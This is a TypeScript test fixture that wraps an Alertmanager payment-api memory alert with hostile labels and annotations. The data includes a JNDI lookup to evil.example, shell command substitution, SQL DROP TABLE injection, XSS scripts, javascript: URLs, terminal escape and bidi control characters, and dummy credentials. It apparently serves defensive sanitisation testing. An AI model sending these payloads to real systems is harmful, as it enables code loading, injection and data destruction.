import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { JsonObject } from '../../../shared/api/json.ts';

const fixture = join(import.meta.dirname, '../../fixtures/alertmanager/payment-api-memory.json');

/** In every hostile text, to be found again wherever it ends. */
export const marker = 'h0st1le';
/** What nobody may read again. None opens anything. */
export const secrets = {
  aws: 'AKIAH0ST1LEH0ST1LE00',
  github: 'ghp_h0st1leh0st1leh0st1leh0st1leh0st1le',
  password: 'h0st1le-pass-phrase',
  bearer: 'h0st1le.bearer.token.0123456789',
} as const;

/** What could move a cursor, end a line or turn the direction of writing. */
export const controls = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b\u202a-\u202e\u2028\u2029\u2066-\u2069]/; // eslint-disable-line no-control-regex -- that is what is looked for

const labels = {
  alertname: `PodMemoryHigh\n${marker}\u001b[31m\u202e`,
  note: `${marker}\r\nfake line: approved by admin\n\u0000`,
  ansi: `${marker}\u001b[2J\u001b]0;owned\u0007\u009b31m`,
  template: `${marker} \${jndi:ldap://evil.example/x} {{.metadata.name}} $(id) \`id\` %s%n`,
  html: `<script>alert("${marker}")</script><img src=x onerror=alert(1)>`,
  sql: `${marker}'; drop table audit_event; --`,
  huge: marker + 'x'.repeat(4_096 - marker.length),
  unicode: `${marker}\u202e\u200b\ud800\uffff`,
  aws_access_key_id: secrets.aws,
  constructor: marker,
} as const;
const annotations = {
  summary: `${marker}\u001b[31m memory is high\npassword=${secrets.password}`,
  description: `Authorization: Bearer ${secrets.bearer}\n${marker}`,
  token: secrets.github,
  dashboard: `javascript:alert("${marker}")`,
  runbook_url: `javascript:${marker}`,
} as const;

/** The notification of the main story, its target as it was and everything else hostile. */
export function aHostileNotification(): JsonObject {
  const notification = JSON.parse(readFileSync(fixture, 'utf8')) as JsonObject & { readonly alerts: readonly JsonObject[] };
  const alerts = notification.alerts.map((alert) => ({
    ...alert,
    labels: { ...(alert['labels'] as JsonObject), ...labels },
    annotations: { ...(alert['annotations'] as JsonObject), ...annotations },
    generatorURL: `http://prometheus.example/${marker}\u001b`,
  }));
  return { ...notification, groupKey: `{}:{${marker}\n\u001b[31m}`, receiver: `${marker}\u0007`, externalURL: `javascript:${marker}`, alerts };
}
